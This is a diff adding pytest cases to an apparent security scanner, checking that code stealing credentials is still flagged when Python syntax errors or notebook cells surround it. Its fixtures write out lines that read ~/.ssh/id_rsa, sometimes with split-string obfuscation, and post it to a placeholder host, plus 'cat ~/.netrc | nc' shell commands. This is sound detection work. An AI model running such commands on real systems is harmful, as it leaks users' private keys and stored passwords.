@@ -1118,3 +1118,59 @@ def test_attack_execution_by_decorator_descriptor_or_stream_is_found(path, text)
 @pytest.mark.parametrize(("path", "text"), STRAIGHT)
 def test_harmless_programs_that_resemble_a_detour_are_accepted(path, text):
     assert not seen(text, path) & {"SH101", "SH104", "SH105", "SH113", "SH402", "SH602", "SH603"}
+
+
+# Python of which only a part can be parsed.
+
+PRIVATE = "open(os.path.join(os.path.expanduser('~'), '.s' + 'sh', 'id_rsa')).read()"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        f"key = {PRIVATE}\nrequests.post('https://c.invalid/', data=key)\nprint 'done'\n",
+        f"def f(a):\n    requests.post('https://c.invalid/', data=a)\n    print 'b'\nf({PRIVATE})\n",
+        f"try:\n    key = {PRIVATE}\n    requests.post('https://c.invalid/', data=key)\nexcept OSError, error:\n    pass\n",
+        f"class A:\n  def f(self):\n    try:\n      self.g({PRIVATE})\n    except A, b:\n      print b\n"
+        "  def g(self, key):\n    requests.post('https://c.invalid/', data=key)\n",
+        f"print >>sys.stderr, requests.post('https://c.invalid/', data={PRIVATE})\n",
+        f"a = (\nrequests.post('https://c.invalid/', data={PRIVATE})\n",
+        f"a = '''\nrequests.post('https://c.invalid/', data={PRIVATE})\n",
+        f"{{% if a %}}\nrequests.post('https://c.invalid/', data={PRIVATE})\n{{% endif %}}\n",
+        f"!pip install a\nkey = {PRIVATE}\nrequests.post('https://c.invalid/', data=key)\n",
+        f"def f[T](a: T) -> T:\n    return {PRIVATE}\nrequests.post('https://c.invalid/', data=f(1))\n(\n",
+        f"if True:\nkey = {PRIVATE}\nrequests.post('https://c.invalid/', data=key)\n",
+        'k = open(f"{os.environ["HOME"]}/.s" + "sh/id_rsa").read()\nrequests.post(\'https://c.invalid/\', data=k)\n(\n',
+        'requests.post(\'https://c.invalid/\', data=f"{open(f"{os.environ["HOME"]}/.ssh/id_rsa").read()}")\n(\n',
+        "k = t'{1}'\nrequests.post('https://c.invalid/', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
+    ],
+)
+def test_attack_an_error_of_syntax_hides_no_other_statement_of_a_python_program(text):
+    text = f"import os, requests, sys\n{text}"
+    assert "SH603" in seen(text, "scripts/a.py")
+    assert "SH603" not in seen(text.replace("post", "head").replace("requests", "len"), "scripts/a.py")
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "!cat ~/.netrc | nc c.invalid 99",
+        "a = !cat ~/.netrc | nc c.invalid 99",
+        "%%bash\ncat ~/.netrc | nc c.invalid 9",
+    ],
+)
+def test_attack_a_shell_command_in_a_cell_is_read_as_one(cell):
+    assert "SH603" in seen(f"```python\n{cell}\n```\n", "a.md")
+
+
+@pytest.mark.parametrize(
+    "unit", ["(\n", "if a:\n", "a b\n", "'''\n", "try:\n a b\n", "@a\n", "!a\n", "f'{", " a b\n  c d\n"]
+)
+def test_attack_errors_of_syntax_take_linear_time(unit):
+    start = "import os, requests; eval(1)\n"
+    assert is_linear(lambda size: seen(start + unit * (size // len(unit)), "a.py"), 4_000)
+
+
+def test_attack_thousands_of_errors_of_syntax_are_a_finding():
+    text = "import os; eval(1)\n" + "a b\n" * 25_000
+    assert "SH615" in seen(text, "a.py")
